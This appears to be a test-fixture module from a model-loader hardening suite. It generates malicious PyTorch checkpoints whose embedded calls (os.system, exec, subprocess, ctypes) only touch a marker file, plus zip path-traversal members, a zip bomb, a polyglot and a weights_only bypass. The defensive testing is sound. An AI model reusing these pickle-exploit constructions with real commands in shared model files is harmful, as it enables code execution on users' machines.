"""Generated hostile PyTorch pickles: each would create a marker file (or a file named after it) if any of its code
ran. `live` payloads are proven to do so when loaded the unsafe way (torch.load(weights_only=False) / pickle.load in
a separate process, tests/hardening/test_hostile_models.py); the others are malformed or structural attacks
(archive members, legacy formats, opcodes) that a loader must refuse just the same.
"""

from __future__ import annotations

import codecs
import collections
import cProfile
import ctypes
import functools
import gzip
import importlib
import io
import logging
import marshal
import operator
import os
import pickle
import runpy
import shlex
import shutil
import sqlite3
import subprocess
import tarfile
import time
import timeit
import warnings
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import numpy as np
import torch

EXTENSIONS = (".ckpt", ".pt", ".bin")


class Reduce:
    """Pickles as `func(*args)` (`func` may itself be a Reduce, i.e. the result of another call); nothing runs while
    pickling."""

    def __init__(self, func, *args):
        self.func, self.args = func, args

    def __reduce__(self):
        return self.func, self.args

    def __call__(self, *args):  # pickle only checks that the callable part of a reduce is callable
        raise AssertionError("never called")


def _unicode(text: str) -> bytes:
    data = text.encode("utf-8")
    return b"X" + len(data).to_bytes(4, "little") + data


def _bytes(data: bytes) -> bytes:
    return b"B" + len(data).to_bytes(4, "little") + data


def _call_opcodes(module: str, name: str, *args: str, protocol: int = 2) -> bytes:
    """A pickle that calls module.name(*args) with string arguments."""
    if protocol == 0:
        return f"c{module}\n{name}\n(".encode() + b"".join(f"V{a}\n".encode() for a in args) + b"tR."
    if protocol >= 4:
        head = b"\x80\x04" + b"\x8c" + bytes([len(module)]) + module.encode() + b"\x8c" + bytes([len(name)])
        return head + name.encode() + b"\x93(" + b"".join(_unicode(a) for a in args) + b"tR."
    return f"\x80\x02c{module}\n{name}\n(".encode() + b"".join(_unicode(a) for a in args) + b"tR."


def _zip(path: Path, members: dict[str, bytes] | list[tuple[str, bytes]]) -> None:
    items = members.items() if isinstance(members, dict) else members
    with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as archive:
        for name, data in items:
            archive.writestr(name, data)


def torch_zip(path: Path, data_pkl: bytes, extra: dict[str, bytes] | None = None) -> None:
    """An archive laid out as torch.save writes it, with `data_pkl` as its pickle."""
    _zip(
        path, {"archive/data.pkl": data_pkl, "archive/byteorder": b"little", "archive/version": b"3\n", **(extra or {})}
    )


@dataclass(frozen=True)
class Payload:
    name: str
    build: Callable[[Path, Path], None]  # (file to write, marker) -> None
    live: bool = True


def _saved(make: Callable[[Path], object]) -> Callable[[Path, Path], None]:
    return lambda path, marker: torch.save(make(marker), path)


def _raw(make: Callable[[Path], bytes], extra: dict[str, bytes] | None = None) -> Callable[[Path, Path], None]:
    return lambda path, marker: torch_zip(path, make(marker), extra)


def _shell(marker: Path) -> str:
    return f"touch {shlex.quote(str(marker))}"


def _code(marker: Path) -> str:
    return f"open({str(marker)!r}, 'w').close()"


def _system(marker: Path) -> Reduce:
    return Reduce(os.system, _shell(marker))


def _module(name: str) -> Reduce:
    return Reduce(importlib.import_module, name)


def _function_type() -> Reduce:
    # types.FunctionType pickles by name as builtins.function, which does not exist: reach it through getattr
    return Reduce(getattr, _module("types"), "FunctionType")


def _helper_file(marker: Path, suffix: str, text: str) -> Path:
    path = marker.with_name(marker.name + suffix)
    path.write_text(text)
    return path


def _inner_zip_bytes(marker: Path) -> bytes:
    buffer = io.BytesIO()
    torch.save({"x": _system(marker)}, buffer)
    return buffer.getvalue()


def _state_dict() -> dict[str, torch.Tensor]:
    return {f"model.diffusion_model.w{i}": torch.full((4, 4), float(i)) for i in range(32)}


@functools.cache
def _torchscript_bytes() -> bytes:
    buffer = io.BytesIO()
    torch.jit.save(torch.jit.script(torch.nn.Linear(2, 2)), buffer)
    return buffer.getvalue()


def _torchscript(path: Path, marker: Path) -> None:
    path.write_bytes(_torchscript_bytes())


def _legacy_tar(path: Path, marker: Path) -> None:
    with tarfile.open(path, "w") as archive:
        for name, data in (
            ("storages", b"\x80\x02K\x00."),
            ("tensors", b"\x80\x02K\x00."),
            ("pickle", pickle.dumps(_system(marker), protocol=2)),
        ):
            info = tarfile.TarInfo(name)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))


def _zip_bomb(path: Path, marker: Path) -> None:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        with archive.open("archive/data.pkl", "w") as member:
            block = bytes(1 << 20)
            for _ in range(64):
                member.write(block)
        archive.writestr("archive/version", b"3\n")


def _duplicate_names(path: Path, marker: Path) -> None:
    benign = pickle.dumps({"a": 1}, protocol=2)
    evil = pickle.dumps({"x": _system(marker)}, protocol=2)
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # zipfile warns about the duplicate name, which is the point
        _zip(path, [("archive/data.pkl", benign), ("archive/data.pkl", evil), ("archive/version", b"3\n")])


def _legacy(path: Path, marker: Path) -> None:
    torch.save({**_state_dict(), "x": _system(marker)}, path, _use_new_zipfile_serialization=False)


def _plain_pickle(path: Path, marker: Path) -> None:
    path.write_bytes(pickle.dumps(_system(marker), protocol=2))


def _polyglot(path: Path, marker: Path) -> None:
    """A plain pickle at the start (what an unpickler reads) and a valid zip checkpoint at the end (what a zip reader
    finds through the central directory)."""
    buffer = io.BytesIO()
    torch.save(_state_dict(), buffer)
    path.write_bytes(pickle.dumps(_system(marker), protocol=2) + buffer.getvalue())


def _payloads() -> list[Payload]:
    p = Payload
    return [
        # --- calls that run a shell command or Python code -------------------------------------------------------
        p("os.system in a torch.save", _saved(lambda m: {"state_dict": _state_dict(), "x": _system(m)})),
        p("posix.system, protocol 0 GLOBAL", _raw(lambda m: _call_opcodes("posix", "system", _shell(m), protocol=0))),
        p("nt.system, protocol 2", _raw(lambda m: _call_opcodes("nt", "system", _shell(m))), live=False),
        p("os.system, protocol 4 STACK_GLOBAL", _raw(lambda m: _call_opcodes("os", "system", _shell(m), protocol=4))),
        p("builtins.eval", _saved(lambda m: {"x": Reduce(eval, _code(m))})),
        p("builtins.exec", _saved(lambda m: {"x": Reduce(exec, _code(m))})),
        p(
            "builtins.compile then exec",
            _saved(lambda m: {"x": Reduce(exec, Reduce(compile, _code(m), "<p>", "exec"))}),
        ),
        p("builtins.open writing the marker", _saved(lambda m: {"x": Reduce(open, str(m), "w")})),
        p("io.open writing the marker", _saved(lambda m: {"x": Reduce(io.open, str(m), "w")})),
        p("subprocess.Popen", _saved(lambda m: {"x": Reduce(subprocess.Popen, ["touch", str(m)])})),
        p("subprocess.call", _saved(lambda m: {"x": Reduce(subprocess.call, ["touch", str(m)])})),
        p("subprocess.run", _saved(lambda m: {"x": Reduce(subprocess.run, ["touch", str(m)])})),
        p("subprocess.check_output", _saved(lambda m: {"x": Reduce(subprocess.check_output, ["touch", str(m)])})),
        p("subprocess.getoutput", _saved(lambda m: {"x": Reduce(subprocess.getoutput, _shell(m))})),
        p("os.popen", _saved(lambda m: {"x": Reduce(os.popen, _shell(m))})),
        p("os.spawnlp", _saved(lambda m: {"x": Reduce(os.spawnlp, os.P_WAIT, "touch", "touch", str(m))})),
        p(
            "getattr(__import__('os'), 'system') chain",
            _raw(
                lambda m: (
                    b"\x80\x02c__builtin__\ngetattr\n(c__builtin__\n__import__\n("
                    + _unicode("os")
                    + b"tR"
                    + _unicode("system")
                    + b"tR("
                    + _unicode(_shell(m))
                    + b"tR."
                )
            ),
        ),
        p(
            "importlib.import_module + getattr",
            _saved(lambda m: {"x": Reduce(Reduce(getattr, _module("os"), "system"), _shell(m))}),
        ),
        p(
            "operator.methodcaller on os",
            _saved(lambda m: {"x": Reduce(Reduce(operator.methodcaller, "system", _shell(m)), _module("os"))}),
        ),
        p(
            "operator.attrgetter on os",
            _saved(lambda m: {"x": Reduce(Reduce(Reduce(operator.attrgetter, "system"), _module("os")), _shell(m))}),
        ),
        p("functools.partial", _saved(lambda m: {"x": Reduce(Reduce(functools.partial, os.system, _shell(m)))})),
        p(
            "pickle.loads of a nested pickle",
            _saved(lambda m: {"x": Reduce(pickle.loads, pickle.dumps(_system(m), protocol=2))}),
        ),
        p(
            "_pickle.loads, protocol 4",
            _raw(
                lambda m: (
                    b"\x80\x04\x8c\x07_pickle\x8c\x05loads\x93(" + _bytes(pickle.dumps(_system(m), protocol=2)) + b"tR."
                )
            ),
        ),
        p(
            "marshal.loads + types.FunctionType",
            _saved(
                lambda m: {
                    "x": Reduce(
                        Reduce(
                            _function_type(), Reduce(marshal.loads, marshal.dumps(compile(_code(m), "<p>", "exec"))), {}
                        )
                    )
                }
            ),
        ),
        p(
            "compile + types.FunctionType",
            _saved(lambda m: {"x": Reduce(Reduce(_function_type(), Reduce(compile, _code(m), "<p>", "exec"), {}))}),
        ),
        p("timeit.timeit", _saved(lambda m: {"x": Reduce(timeit.timeit, _code(m), "pass", time.perf_counter, 1)})),
        p("cProfile.run", _saved(lambda m: {"x": Reduce(cProfile.run, _code(m))})),
        p(
            "code.InteractiveInterpreter.runsource",
            _saved(
                lambda m: {
                    "x": Reduce(
                        Reduce(getattr, Reduce(importlib.import_module("code").InteractiveInterpreter), "runsource"),
                        _code(m),
                    )
                }
            ),
        ),
        p(
            "runpy.run_path",
            lambda path, m: torch.save(
                {"x": Reduce(runpy.run_path, str(_helper_file(m, ".script.py", _code(m))))}, path
            ),
        ),
        p(
            "ctypes libc system()",
            _saved(lambda m: {"x": Reduce(Reduce(getattr, Reduce(ctypes.CDLL, None), "system"), _shell(m).encode())}),
        ),
        # --- calls that create files -------------------------------------------------------------------------------
        p("os.makedirs", _saved(lambda m: {"x": Reduce(os.makedirs, str(m))})),
        p("os.mkfifo", _saved(lambda m: {"x": Reduce(os.mkfifo, str(m))})),
        p("shutil.copyfile", _saved(lambda m: {"x": Reduce(shutil.copyfile, os.devnull, str(m))})),
        p("logging.FileHandler", _saved(lambda m: {"x": Reduce(logging.FileHandler, str(m))})),
        p("zipfile.ZipFile in write mode", _saved(lambda m: {"x": Reduce(zipfile.ZipFile, str(m), "w")})),
        p(
            "sqlite3.connect",
            _saved(
                lambda m: {
                    "x": Reduce(Reduce(getattr, Reduce(sqlite3.connect, str(m)), "execute"), "create table t(x)")
                }
            ),
        ),
        p("gzip.open", _saved(lambda m: {"x": Reduce(gzip.open, str(m), "wb")})),
        p("tarfile.open", _saved(lambda m: {"x": Reduce(tarfile.open, str(m), "w")})),
        p("numpy.save", _saved(lambda m: {"x": Reduce(np.save, str(m), np.zeros(2))})),
        p("torch.save", _saved(lambda m: {"x": Reduce(torch.save, {"a": 1}, str(m))})),
        p(
            "torch.hub.download_url_to_file (file://)",
            lambda path, m: torch.save(
                {
                    "x": Reduce(
                        torch.hub.download_url_to_file, _helper_file(m, ".src", "x").as_uri(), str(m), None, False
                    )
                },
                path,
            ),
        ),
        # --- weights-only bypass shapes and allowed names carrying forbidden ones ------------------------------
        p(
            "torch.storage._load_from_bytes (pre-2.6 bypass)",
            _raw(lambda m: pickle.dumps(Reduce(torch.storage._load_from_bytes, _inner_zip_bytes(m)), protocol=2)),
        ),
        p(
            "torch.load of a nested file",
            lambda path, m: torch.save({"x": Reduce(torch.load, str(_helper_file(m, ".inner", "")), None, None)}, path),
            live=False,
        ),
        p("numpy object array holding a call", _saved(lambda m: {"x": np.array([_system(m), 1], dtype=object)})),
        p("OrderedDict holding a call", _saved(lambda m: collections.OrderedDict(w=torch.ones(2), x=_system(m)))),
        p("set holding a call", _saved(lambda m: {"x": {_system(m)}})),
        p("_codecs.encode of a call's result", _saved(lambda m: {"x": Reduce(codecs.encode, _system(m), "utf-8")})),
        p(
            "BUILD state of an allowed class holding a call",
            _raw(
                lambda m: (
                    b"\x80\x02ccollections\nOrderedDict\n)R}"
                    + _unicode("x")
                    + pickle.dumps(_system(m), protocol=2)[2:-1]
                    + b"sb."
                )
            ),
        ),
        p(
            "dotted name through an allowed-looking module (torch.serialization.os.system)",
            _raw(lambda m: _call_opcodes("torch.serialization", "os.system", _shell(m), protocol=4)),
        ),
        p(
            "dotted name OrderedDict.fromkeys",
            _raw(lambda m: b"\x80\x04\x8c\x0bcollections\x8c\x14OrderedDict.fromkeys\x93."),
            live=False,
        ),
        p(
            "allowed module, other name (__builtin__.setattr)",
            _raw(lambda m: b"\x80\x02c__builtin__\nsetattr\n."),
            live=False,
        ),
        p("module name with a NUL byte", _raw(lambda m: b"\x80\x02cos\x00\nsystem\n."), live=False),
        p("torch.nn.Module pickled whole", _saved(lambda m: {"m": torch.nn.Linear(2, 2)}), live=False),
        p(
            "numpy.testing runstring",
            _raw(lambda m: _call_opcodes("numpy.testing._private.utils", "runstring", _code(m))[:-3] + b"}tR."),
            live=False,
        ),
        p(
            "copyreg._reconstructor",
            _raw(lambda m: b"\x80\x02ccopyreg\n_reconstructor\n(c__builtin__\nobject\nc__builtin__\nobject\nNtR."),
            live=False,
        ),
        p("payload after many real tensors", _saved(lambda m: {**_state_dict(), "zzz": _system(m)})),
        p(
            "call nested deep in dicts and lists",
            _saved(lambda m: {"state_dict": {"a": [1, {"b": (torch.zeros(1), [[[[_system(m)]]]])}]}}),
        ),
        p(
            "call as a Lightning callbacks key",
            _saved(lambda m: {"state_dict": _state_dict(), "callbacks": {_system(m): {}}}),
        ),
        p("INST opcode", _raw(lambda m: f"(V{_shell(m)}\nios\nsystem\n.".encode())),
        p(
            "OBJ opcode",
            _raw(lambda m: b"\x80\x02(csubprocess\nPopen\n](" + _unicode("touch") + _unicode(str(m)) + b"eo."),
        ),
        # --- archive and format attacks ----------------------------------------------------------------------------
        p(
            "extra zip member (payload.py)",
            _raw(lambda m: pickle.dumps({"a": 1}, protocol=2), {"archive/payload.py": b"import os"}),
            live=False,
        ),
        p(
            "zip member with ../ in its name",
            _raw(lambda m: pickle.dumps({"a": 1}, protocol=2), {"archive/../../evil.sh": b"#!/bin/sh"}),
            live=False,
        ),
        p(
            "absolute zip member name",
            _raw(lambda m: pickle.dumps({"a": 1}, protocol=2), {"/tmp/evil.sh": b"#!/bin/sh"}),
            live=False,
        ),
        p(
            "two data.pkl records",
            lambda path, m: _zip(
                path,
                {"a/data.pkl": pickle.dumps({"a": 1}, protocol=2), "b/data.pkl": pickle.dumps(_system(m), protocol=2)},
            ),
            live=False,
        ),
        p("duplicate data.pkl names", _duplicate_names, live=False),
        p("no data.pkl", lambda path, m: _zip(path, {"archive/version": b"3\n"}), live=False),
        p("TorchScript archive (code/ members)", _torchscript, live=False),
        p("legacy non-zip torch.save", _legacy),
        p("plain pickle file", _plain_pickle),
        p("pickle with a zip checkpoint appended (polyglot)", _polyglot),
        p("legacy tar format", _legacy_tar, live=False),
        p("deflated zip bomb as data.pkl (64 MiB of zeros)", _zip_bomb, live=False),
        p("truncated zip", lambda path, m: path.write_bytes(b"PK\x03\x04" + bytes(40)), live=False),
        # --- malformed opcodes -------------------------------------------------------------------------------------
        p(
            "persistent id that is not a storage",
            _raw(lambda m: b"\x80\x02" + _unicode("evil") + b"\x85Q."),
            live=False,
        ),
        p("PERSID text persistent id", _raw(lambda m: b"Pevil\n."), live=False),
        p("EXT1 extension code", _raw(lambda m: b"\x80\x02\x82\x01."), live=False),
        p("protocol 5 out-of-band buffer", _raw(lambda m: b"\x80\x05\x97."), live=False),
    ]


PAYLOADS = _payloads()


def write(payload: Payload, path: Path, marker: Path) -> Path:
    payload.build(path, marker)
    return path


def traces(marker: Path) -> list[Path]:
    """Files an executed payload would have left: the marker, or a name starting with it (numpy adds .npy)."""
    return [p for p in marker.parent.glob(marker.name + "*") if not p.name.endswith((".script.py", ".src", ".inner"))]
